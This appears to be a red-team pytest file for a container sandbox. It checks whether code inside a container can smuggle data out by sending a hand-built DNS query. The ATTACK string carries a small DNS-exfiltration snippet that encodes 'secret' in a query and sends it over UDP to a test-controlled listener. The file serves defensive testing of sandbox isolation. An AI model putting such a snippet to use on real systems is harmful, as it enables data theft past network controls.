"""Carry data out in a DNS query.

Way: container
Control: stock DockerSpawner
Held by: no resolver is reachable: there is no interface but loopback
"""

import socket

import pytest

from tests.redteam.stock import bridge_address

ATTACK = """
import socket
query = bytes.fromhex("000101000001000000000000") + b"\\x06secret\\x07example\\x00" + bytes.fromhex("00010001")
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(query, (HOST, PORT))
"""


def attack(port: int) -> str:
    return f"HOST, PORT = {bridge_address()!r}, {port}\n" + ATTACK


def resolver() -> socket.socket:
    server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    server.bind(("0.0.0.0", 0))
    server.settimeout(20)
    return server


def test_control_it_works_at_stock(stock_inside) -> None:
    with resolver() as server:
        outcome = stock_inside.python(attack(server.getsockname()[1]))
        assert outcome.worked, outcome.output
        assert b"secret" in server.recv(512)


def test_no_query_leaves(inside) -> None:
    with resolver() as server:
        outcome = inside.python(attack(server.getsockname()[1]))
        server.settimeout(1)
        with pytest.raises(TimeoutError):
            server.recv(512)
    assert not outcome.worked
